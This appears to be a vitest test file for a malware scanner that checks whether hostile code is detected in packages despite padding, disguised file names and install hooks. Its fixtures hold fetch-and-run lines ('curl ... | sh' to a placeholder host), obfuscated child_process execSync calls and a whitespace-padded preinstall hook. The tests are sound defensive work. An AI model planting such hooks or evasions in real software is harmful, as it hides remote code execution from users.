import { afterAll, describe, expect, it } from 'vitest';
import { createCodeEngine, type ScanFile, type ScanFinding } from '../src/index.ts';
import { file, quietly, subject } from './subjects.ts';

const engine = createCodeEngine();
afterAll(() => engine.close());
const scan = async (...files: ScanFile[]): Promise<readonly ScanFinding[]> => await engine.analyse(subject(files), quietly);
const harmIn = (findings: readonly ScanFinding[]): readonly (string | null)[] =>
  findings.filter(({ kind, severity }) => kind === 'MALWARE' && (severity === 'CRITICAL' || severity === 'HIGH')).map(({ path }) => path);
const unexaminedIn = (findings: readonly ScanFinding[]): readonly string[] =>
  findings.filter(({ kind }) => kind === 'UNEXAMINED').map(({ severity, path }) => `${severity} ${path}`);

const harm = `require('child_process').execSync('curl -s https://example.org/x | sh'); eval(atob('Y29uc29sZS5sb2coMSk='));`;
/** Only whoever follows names to their values knows what this is. */
const veiled = `const cp = require('child' + '_process'); cp['ex' + 'ecSync']('curl -s https://example.org/x | sh');`;
const gati = (module: object): ScanFile => file('gati.json', JSON.stringify({ name: '@a/b', version: '1.0.0', type: 'module', module }));
const pkg = (fields: object): ScanFile => file('package.json', JSON.stringify(fields));
const tooLarge = (path: string): ScanFile => ({ path, sizeBytes: 10 ** 8, content: null });
/** Honest code of about this size, with a few things to keep apart: texts, templates, patterns, divisions. */
const ordinary = (sizeBytes: number): string =>
  Array.from(
    { length: Math.ceil(sizeBytes / 140) },
    (_, index) => `function f${index}(a, b) { const t = \`x\${a / 2}}\`; return /[/"]+\\/x/.test(t) ? { k: a++ / 2, 'q}': [b] } : "it's }" + t; }\n`,
  ).join('');

describe('harmful code is found however it is padded', () => {
  it.each([
    ['with a comment of 5 MB before it', `/*${'x'.repeat(5 * 1024 ** 2)}*/\n${veiled}`],
    ['with a comment after it', `${veiled}\n//${'x'.repeat(5 * 1024 ** 2)}`],
    ['with white space', `${' '.repeat(5 * 1024 ** 2)}${veiled}`],
    ['with a text', `const data = '${'x'.repeat(5 * 1024 ** 2)}';\n${veiled}`],
    ['with ordinary code around it', `${ordinary(1.5 * 1024 ** 2)}\n${veiled}\n${ordinary(1.5 * 1024 ** 2)}`],
    ['deep in one large function', `(() => {\n${ordinary(1.3 * 1024 ** 2)}\nif (1) { ${veiled} }\n${ordinary(1.3 * 1024 ** 2)}\n})();`],
    [
      'with its module loaded far away',
      `const cp = require('child_process');\n${ordinary(2.5 * 1024 ** 2)}\ncp['ex' + 'ecSync']('curl -s https://example.org/x | sh');`,
    ],
  ])('%s', { timeout: 120_000 }, async (_how, text) => {
    const findings = await scan(gati({ runtime: 'node', entry: 'index.js' }), file('index.js', text));
    expect(harmIn(findings)).toContain('index.js');
    expect(unexaminedIn(findings)).toEqual([]);
  });
  it('honest code of any size is not called harmful, and was read to its end', { timeout: 120_000 }, async () => {
    expect(await scan(gati({ runtime: 'node', entry: 'index.js' }), file('index.js', ordinary(4 * 1024 ** 2)))).toEqual([]);
  });
  it('in a script of package.json as well', async () => {
    expect(harmIn(await scan(pkg({ scripts: { preinstall: `${' '.repeat(2000)}curl -s https://example.org/x | sh` } })))).toEqual(['package.json']);
  });
});

describe('harmful code is found whatever its file is called', () => {
  it.each([
    ['the entry of a module', [gati({ runtime: 'node', entry: './index.bin' }), file('index.bin', harm)], 'index.bin'],
    ['the entry of a plugin', [file('gati.json', '{"plugin":{"entry":"run.dat"}}'), file('run.dat', harm)], 'run.dat'],
    ['the program of a binary module', [gati({ runtime: 'binary', targets: [{ platform: 'linux/amd64', path: 'run' }] }), file('run', harm)], 'run'],
    ['main of a package', [pkg({ main: 'lib/index.png' }), file('lib/index.png', harm)], 'lib/index.png'],
    ['bin of a package', [pkg({ bin: { tool: 'bin/tool' } }), file('bin/tool', harm)], 'bin/tool'],
    ['exports of a package', [pkg({ exports: { '.': { node: { import: './x.css' } } } }), file('x.css', harm)], 'x.css'],
    ['exports with a star', [pkg({ exports: { './*': './dist/*.bin' } }), file('dist/a.bin', harm)], 'dist/a.bin'],
    ['a script', [pkg({ scripts: { start: 'node -r ./hook.dat .' } }), file('hook.dat', harm)], 'hook.dat'],
    ['an install script', [pkg({ scripts: { preinstall: './setup.dat' } }), file('setup.dat', harm)], 'setup.dat'],
    ['the main of a package within', [file('node_modules/x/package.json', '{"main":"m.bin"}'), file('node_modules/x/m.bin', harm)], 'node_modules/x/m.bin'],
    ['required by the entry', [pkg({ main: 'a.js' }), file('a.js', "require('./b.bin')"), file('b.bin', "import('./c')"), file('c', harm)], 'c'],
    ['imported by code', [file('lib/a.mjs', "import '../data/b.txt'"), file('data/b.txt', harm)], 'data/b.txt'],
    ['named by code', [file('a.js', "load(path.join(__dirname, 'payload.dat'))"), file('payload.dat', harm)], 'payload.dat'],
    ['by its first line', [file('run.bin', `#!/usr/bin/env -S node --no-warnings\n${harm}`)], 'run.bin'],
    ['a shell script that installs', [pkg({ scripts: { install: 'sh ./setup' } }), file('setup', 'curl -fsSL https://example.org/x | sh')], 'setup'],
    ['a NUL in a comment', [gati({ runtime: 'node', entry: 'index.bin' }), file('index.bin', `/*\0*/${harm}`)], 'index.bin'],
    ['a layer of its own', [{ ...file('payload', harm), layerMediaType: 'application/octet-stream' }], 'payload'],
  ] as const)('%s', async (_what, files, path) => {
    expect(harmIn(await scan(...files))).toContain(path);
  });
});

describe('what runs and cannot be read is never passed over', () => {
  it.each([
    ['an entry that is too large', [gati({ runtime: 'node', entry: 'index.js' }), tooLarge('index.js')], ['HIGH index.js']],
    ['an entry that is no code', [gati({ runtime: 'node', entry: 'index.bin' }), file('index.bin', 'x\u0001 no code')], ['HIGH index.bin']],
    ['an install script that is too large', [pkg({ scripts: { install: 'node go' } }), tooLarge('go.js')], ['HIGH go.js']],
    ['what the entry loads', [pkg({ main: 'a.js' }), file('a.js', "require('./b')"), tooLarge('b.js')], ['HIGH b.js']],
    ['a manifest that is too large', [tooLarge('package.json')], ['HIGH package.json']],
    ['a command that is too long', [pkg({ scripts: { install: `true ${'x'.repeat(20_000)}` } })], ['HIGH package.json']],
    ['a layer of code that is too large', [{ ...tooLarge('blob'), layerMediaType: 'text/javascript' }], ['HIGH blob']],
    ['code that nothing is known to run', [tooLarge('lib/large.js')], ['UNKNOWN lib/large.js']],
  ] as const)('%s', async (_what, files, expected) => {
    expect(unexaminedIn(await scan(...files))).toEqual(expected);
  });
  it.each([
    ['weights of a model', [{ ...tooLarge('model.gguf'), layerMediaType: 'application/vnd.gguf' }], ['LOW model.gguf']],
    ['a small binary layer', [{ ...file('a.bin', Uint8Array.of(1, 0, 2)), layerMediaType: 'application/octet-stream' }], ['LOW a.bin']],
    ['a module in WebAssembly', [gati({ runtime: 'wasm', entry: 'a.wasm' }), file('a.wasm', '\0asm\u0001\0\0\0')], ['LOW a.wasm']],
    ['a native addon', [pkg({ main: 'a.node' }), file('a.node', '\u007fELF\0')], ['LOW a.node']],
    ['a large native addon', [pkg({ main: 'a.node' }), tooLarge('a.node')], ['LOW a.node']],
    ['a program in Python', [pkg({ bin: 'run' }), file('run', '#!/usr/bin/python3\nprint(1)')], ['LOW run']],
    ['the programs of an image, in one finding', [file('bin/a', '\u007fELF\0'), file('bin/b', '\u007fELF\0')], ['LOW bin/a']],
  ] as const)('%s are said to be unexamined, and that is no charge', async (_what, files, expected) => {
    const findings = await scan(...files);
    expect(unexaminedIn(findings)).toEqual(expected);
    expect(findings.every(({ severity }) => severity === 'LOW')).toBe(true);
  });
  it.each([
    ['a style sheet', [pkg({ main: 'a.css', exports: { './*': './*' } }), file('a.css', 'a { b: c }'), file('LICENSE', 'You may (not).')]],
    ['a licence that is exported', [pkg({ exports: { '.': './a.js', './LICENSE': './LICENSE' } }), file('a.js', ''), file('LICENSE', 'You may (not).')]],
    ['an archive that the entry opens', [pkg({ main: 'a.js' }), file('a.js', "new URL('./b.dat', import.meta.url)"), file('b.dat', '\u001f\u008b')]],
    ['data', [pkg({ main: 'a.js' }), file('a.js', "read('./words.txt', './b.json')"), file('words.txt', 'no code (at all'), file('b.json', '{"a": 1}')]],
    ['a text as a layer', [{ ...file('notes.md', '# Notes (of mine'), layerMediaType: 'text/markdown' }]],
    ['images and fonts of an archive', [file('a.png', Uint8Array.of(0x89, 0x50, 0, 1)), tooLarge('movie.mp4')]],
  ] as const)('nothing is said of %s', async (_what, files) => {
    expect(await scan(...files)).toEqual([]);
  });
  it('a packed layer is an archive whatever it is called', async () => {
    for (const magic of ['PK\u0003\u0004', 'BZh9', '7z\u00bc\u00af'])
      expect(await scan({ ...file('index.js.txt', Buffer.from(`${magic}rest\0`, 'latin1')), layerMediaType: 'text/plain' })).toContainEqual(
        expect.objectContaining({ kind: 'ARCHIVE', path: 'index.js.txt' }),
      );
  });
});
